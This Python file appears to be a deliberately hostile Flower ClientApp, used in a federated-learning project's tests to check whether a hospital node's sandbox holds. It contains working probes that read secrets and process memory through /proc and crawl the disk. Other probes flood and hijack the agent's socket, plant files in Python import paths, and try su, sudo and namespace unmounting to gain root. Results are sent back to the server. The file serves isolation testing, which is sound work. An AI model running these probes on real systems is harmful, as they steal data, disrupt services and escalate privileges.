"""A hostile bundle's ClientApp: it knows where everything lies, and reports every way in that it finds.

Not imported by tests: copied into a Flower App of its own and run by a hospital's courier.
"""

import ctypes
import json
import os
import socket
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import grpc
from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
NO_ANSWER = (grpc.StatusCode.UNIMPLEMENTED, grpc.StatusCode.UNAVAILABLE)
NAMES = ("release.key", "ledger.db", "policy.toml", "hospital.toml", "manifest.csv", "status.sock")


@app.query()
def attack(message, context):
    """Try everything, and send home what worked."""
    known = json.loads(message.content["known"]["json"])
    agent_socket = context.node_config["agent-socket"]
    findings = {name: _tried(lambda act=act: act(known, agent_socket)) for name, act in ATTACKS.items()}
    return Message(RecordDict({"found": ConfigRecord({"json": json.dumps(findings)})}), reply_to=message)


def _tried(act):
    try:
        return act()
    except Exception as error:
        return f"failed: {type(error).__name__}: {error}"


def read_known_files(known, agent_socket):
    """Open slides, keys, ledger and settings where they really lie."""
    return [path for path in known["files"] if _reads(path)]


def read_through_other_processes(known, agent_socket):
    """See the agent's file system, memory and environment through /proc."""
    others = [pid for pid in known["pids"] if pid not in _family()]
    paths = [f"/proc/{pid}/{what}" for pid in others for what in ("environ", "mem", "root/etc/passwd")]
    roots = [
        f"/proc/{pid}/root{file}" for pid in os.listdir("/proc") if pid.isdigit() for file in known["files"]
    ]
    return [path for path in paths + roots if _reads(path)]


def search_the_whole_disk(known, agent_socket):
    """Walk all that is there."""
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if (folder, name) != ("/", "proc")]
        found += [f"{folder}/{file}" for file in files if file in NAMES or file.endswith(".svs")]
    return found


def ask_the_agent_for_its_status(known, agent_socket):
    """The courier's socket serves no status, and the other socket is not there."""
    got = []
    for path in (agent_socket, known["status_socket"]):
        with grpc.insecure_channel(f"unix:{path}") as channel:
            try:
                got.append(channel.unary_unary("/fedpath.Agent/status")(b"", timeout=5).decode())
            except grpc.RpcError as error:
                got += [] if error.code() in NO_ANSWER else [str(error.code())]
    return got


def reach_the_ledgers_database(known, agent_socket):
    """Connect where PostgreSQL listens for the agent: its socket would let the bundle rewrite what was spent."""
    got = []
    for path in known["databases"]:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(path)
                got.append(path)
            except OSError:
                continue
    return got


def flood_the_agent(known, agent_socket):
    """Ask hundreds of times at once, with large messages of nonsense; then as one should, to see whether that still works."""
    nonsense = os.urandom(1 << 20) * 16
    options = [("grpc.max_send_message_length", 1 << 28)]

    def ask(number):
        with grpc.insecure_channel(f"unix:{agent_socket}", options=options) as channel:
            try:
                channel.unary_unary(f"/fedpath.Agent/{('train', 'evaluate', 'sum')[number % 3]}")(
                    nonsense, timeout=60
                )
            except grpc.RpcError as error:
                return error.code().name
        return "answered"

    with ThreadPoolExecutor(64) as pool:
        ended = set(pool.map(ask, range(256)))
    found = sorted(ended - {"answered", "RESOURCE_EXHAUSTED"})
    with grpc.insecure_channel(f"unix:{agent_socket}") as channel:
        answer = channel.unary_unary("/fedpath.Agent/describe")(b"FPE1" + bytes(4), timeout=30)
    return found if b"hospital" in answer else [*found, "the agent does not answer"]


def take_the_agents_place(known, agent_socket):
    """Put another socket, or a link to a secret, where the agent's is."""
    os.unlink(agent_socket)
    socket.socket(socket.AF_UNIX).bind(agent_socket)
    return ["bound"]


def infect_the_installation(known, agent_socket):
    """Write where the hospital's own Python looks for code."""
    return [
        path for path in (*sys.path, sys.prefix, sys.base_prefix) if path in known["code"] and _writes(path)
    ]


def see_other_processes(known, agent_socket):
    """Processes of others that can be seen or signalled."""
    mine = _family()
    seen = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in mine]
    reached = [pid for pid in known["pids"] if pid not in mine and _signals(pid)]
    return seen + reached


def become_root(known, agent_socket):
    """Root, by asking for it, by a set-uid program, or inside a namespace of one's own, to unmount the walls."""
    found = [] if os.getuid() else ["is root"]
    for program in (["su", "-c", "id -u"], ["sudo", "-n", "id", "-u"]):
        try:
            done = subprocess.run(
                program, capture_output=True, text=True, timeout=10, stdin=subprocess.DEVNULL
            )
            found += ["su"] if done.stdout.strip() == "0" else []
        except OSError:
            continue
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        walls = [line.split()[1] for line in Path("/proc/self/mounts").read_text().splitlines()]
        for wall in [*reversed(walls), "/"]:
            libc.umount2(wall.encode(), 2)
        found += [path for path in known["files"] if _reads(path)]
    return found


def _family():
    """All processes of this courier: those in its own process namespace."""
    return (
        set()
        if Path("/proc/1/cmdline").read_bytes().find(b"flower-supernode") < 0
        else {int(pid) for pid in os.listdir("/proc") if pid.isdigit()}
    )


def _reads(path):
    try:
        with open(path, "rb") as file:
            return bool(file.read(1)) or True
    except OSError:
        return False


def _writes(path):
    try:
        Path(path, "sitecustomize_hostile.py").write_text("x = 1")
    except OSError:
        return False
    return True


def _signals(pid):
    try:
        os.kill(pid, 0)
    except OSError:
        return False
    return True


ATTACKS = {
    act.__name__: act
    for act in (
        read_known_files,
        read_through_other_processes,
        search_the_whole_disk,
        ask_the_agent_for_its_status,
        reach_the_ledgers_database,
        infect_the_installation,
        see_other_processes,
        become_root,
        flood_the_agent,
        take_the_agents_place,
    )
}
